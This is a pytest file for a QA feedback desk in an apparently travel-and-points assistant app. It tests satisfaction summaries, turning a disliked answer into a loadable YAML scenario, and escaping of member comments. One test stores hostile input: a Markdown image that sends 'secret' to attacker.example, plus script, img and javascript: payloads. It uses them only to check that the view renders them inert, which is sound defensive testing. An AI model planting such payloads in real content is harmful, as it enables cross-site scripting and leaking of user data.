"""The QA tab's feedback desk: satisfaction by tool and by day, and a thumbs-down turned into a scenario."""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import gradio as gr

from assistant.web.feedback import FeedbackStore
from eval.feedback import FeedbackRow, draft_scenario, turns_of
from eval.scenario import load_file
from eval.ui import FeedbackDesk, build_tab, save_draft

TRANSCRIPT = [
    {"role": "user", "text": "hotels in Kyoto for 2 nights from next Friday"},
    {"role": "assistant", "text": "", "tool_calls": [{"name": "search_hotels", "args": {"city": "Kyoto"}}]},
    {"role": "tool", "text": '{"hotels": []}'},
    {"role": "assistant", "text": "Here are hotels in Kyoto: Smile Stay Gion."},
    {"role": "user", "text": "how many points do I have?"},
    {"role": "assistant", "text": "", "tool_calls": [{"name": "points_balance", "args": {}}]},
    {"role": "assistant", "text": "You have 9,999 points."},
]


@dataclass
class _Settings:
    resolved_database_url: str


class _Conversations:
    def transcript(self, *, member_id: str, thread_id: str) -> list[dict[str, Any]]:
        assert member_id == "M0001"
        return TRANSCRIPT


@dataclass
class _Runtime:
    settings: _Settings
    conversations: _Conversations


def _desk(tmp_path: Path) -> FeedbackDesk:
    url = f"sqlite:///{tmp_path / 'app.db'}"
    store = FeedbackStore(url)
    store.create()
    store.record(member_id="M0001", thread_id="T1", turn=1, rating="up", answer_excerpt="Here are hotels")
    store.record(member_id="M0001", thread_id="T1", turn=2, rating="down", comment="that's not my balance",
                 answer_excerpt="You have 9,999 points.", model="offline")  # fmt: skip
    runtime = _Runtime(_Settings(url), _Conversations())
    return FeedbackDesk(lambda: runtime)


def test_satisfaction_by_tool_and_day(tmp_path: Path) -> None:
    desk = _desk(tmp_path)
    by_tool, by_day, downs = desk.summary()
    assert {row[0]: row[1:] for row in by_tool} == {"search_hotels": [1, 0, "100%"], "points_balance": [0, 1, "0%"]}
    assert len(by_day) == 1 and by_day[0][1:] == [1, 1, "50%"]
    assert len(downs) == 1 and "turn 2" in downs[0]
    text = desk.conversation(downs[0])
    assert "how many points do I have?" in text and "points_balance" in text and "that's not my balance" in text


def test_thumbs_down_becomes_a_loadable_scenario(tmp_path: Path) -> None:
    desk = _desk(tmp_path)
    _, _, downs = desk.summary()
    draft = desk.draft(downs[0])
    assert "# Member's comment: that's not my balance" in draft
    # prefilled with what happened: the tools called (with their arguments) and the member's state
    assert "#   points_balance {}" in draft and "member's state" in draft
    assert "You have 9,999 points." in draft  # the disliked answer whole, never cut mid-word
    # the reviewer must complete the end check: until then the draft does not load
    unfinished = save_draft(draft, folder=tmp_path / "drafts")
    assert "does not load yet" in unfinished and "FILL_IN" in unfinished
    message = save_draft(draft.replace("FILL_IN: true", "nothing_written: true"), folder=tmp_path / "drafts")
    assert message.startswith("Saved to") and "does not load" not in message
    [scenario] = load_file(next((tmp_path / "drafts").glob("*.yaml")))
    assert scenario.member == "M0001" and "feedback" in scenario.tags
    assert [t.user for t in scenario.turns] == [TRANSCRIPT[0]["text"], TRANSCRIPT[4]["text"]]
    expect = scenario.turns[1].expect
    assert expect.tools_called is not None and [t.name for t in expect.tools_called] == ["points_balance"]


def test_turns_are_numbered_like_the_feedback() -> None:
    turns = turns_of(TRANSCRIPT)
    assert [(t.turn, t.tools, t.answer[:8]) for t in turns] == [
        (1, ["search_hotels"], "Here are"),
        (2, ["points_balance"], "You have"),
    ]
    row = FeedbackRow("M0001", "T1", 5, "down", None, None, None, None)
    try:
        draft_scenario(row, [])
    except ValueError as exc:
        assert "no turn 5" in str(exc)


def test_tab_builds_inside_blocks(tmp_path: Path) -> None:
    desk = _desk(tmp_path)
    with gr.Blocks() as demo, gr.Tab("QA"):
        build_tab(get_runtime=desk.get_runtime)
    assert demo is not None


def test_member_text_in_the_qa_conversation_view_is_inert(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'app.db'}"
    store = FeedbackStore(url)
    store.create()
    hostile = ("![x](https://attacker.example/p.png?q=secret) <img src=https://a.example/x> "
               "[click](javascript:alert(1)) <script>alert(1)</script> www.evil.example")
    store.record(member_id="M0001", thread_id="T1", turn=2, rating="down", comment=hostile, model="offline")
    desk = FeedbackDesk(lambda: _Runtime(_Settings(url), _Conversations()))
    [key] = desk.summary()[2]
    text = desk.conversation(key)
    assert "attacker.example" in text  # shown as text...
    for live in ("<img", "<script", "https://", "javascript:", "www."):  # ...but nothing that loads or links
        assert live not in text
    assert not re.search(r"(?<!\\)[\[\]]", text)  # every Markdown link / image bracket is escaped


def test_a_draft_stays_valid_whatever_the_state_and_model_hold() -> None:
    """A line break in a model name or a state value stays inside its comment line: once the reviewer fills in
    `end:`, the draft loads."""
    import tempfile

    row = FeedbackRow("M0001", "T1", 2, "down", "wrong\nbalance: 0", "You have 9,999 points.", "offline\nnote: x", None)
    draft = draft_scenario(row, turns_of(TRANSCRIPT), {"points": "{\"balance\": 10}\nextra: 1"})
    lines = draft.splitlines()
    assert all(line.startswith("#") for line in lines[:lines.index("id: feedback-t1-2")])
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "draft.yaml"
        path.write_text(draft.replace("FILL_IN: true", "nothing_written: true"), encoding="utf-8")
        [scenario] = load_file(path)
    assert scenario.id == "feedback-t1-2" and len(scenario.turns) == 2
